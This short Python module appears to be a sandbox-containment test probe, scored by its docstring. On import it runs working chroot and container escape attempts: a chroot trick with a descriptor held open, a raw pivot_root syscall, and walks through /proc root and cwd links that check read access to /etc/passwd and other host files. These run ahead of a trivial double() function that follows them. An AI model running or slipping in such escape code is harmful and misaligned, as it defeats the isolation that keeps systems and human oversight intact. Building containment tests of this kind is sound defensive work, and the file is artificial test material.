"""It breaks out of the root folder: chroot with a folder kept open, pivot_root, `..`, the links in /proc.

earns: 4 exactly
destructive: yes
stopped by: seccomp, root, namespaces
"""

import contextlib
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
here = os.open("/", os.O_RDONLY)
os.makedirs("/tmp/attack-root", exist_ok=True)
with contextlib.suppress(OSError):
    os.chroot("/tmp/attack-root")
    os.fchdir(here)
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    print("ESCAPED: chroot")
if libc.syscall(155, b"/tmp", b"/tmp/attack-root") == 0:
    print("ESCAPED: pivot_root")
# Folders on the way to the interpreter may be there, but empty but for that way.
for start in ("/..", "/proc/self/root/..", "/proc/1/root", f"/proc/{os.getppid() or 1}/root", "/proc/1/cwd/.."):
    for place in ("etc/passwd", "etc/hostname", "var/log", "boot", "usr/share/doc"):
        if os.access(f"{start}/{place}", os.R_OK):
            print("ESCAPED:", f"{start}/{place}")
os.rmdir("/tmp/attack-root")
os.close(here)


def double(x):
    return 2 * x
